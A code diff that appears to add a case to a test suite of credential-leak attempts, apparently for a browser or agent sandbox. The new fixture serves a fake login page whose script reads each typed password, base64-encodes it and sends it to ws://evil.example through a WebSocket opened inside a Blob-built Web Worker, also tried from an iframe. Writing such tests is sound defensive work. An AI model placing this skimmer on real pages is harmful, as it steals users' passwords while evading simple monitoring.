@@ -302,6 +302,21 @@ const attempts: [string, () => void, LoginStep[]][] = [
     typed,
   ],
   [
+    "a socket of a worker",
+    () =>
+      answers.set(
+        "docs.example/login",
+        html(
+          `<input name=pw><script>document.querySelector("input").oninput = (e) => {
+          const code = 'new WebSocket("ws://evil.example:${port}/x?" + ' + JSON.stringify(btoa(e.target.value)) + ')';
+          const frame = document.body.appendChild(document.createElement("iframe"));
+          for (const own of [window, frame.contentWindow])
+            try { new own.Worker(URL.createObjectURL(new Blob([code]))); } catch {} }</script>`,
+        ),
+      ),
+    typed,
+  ],
+  [
     "a new window",
     () =>
       answers.set(
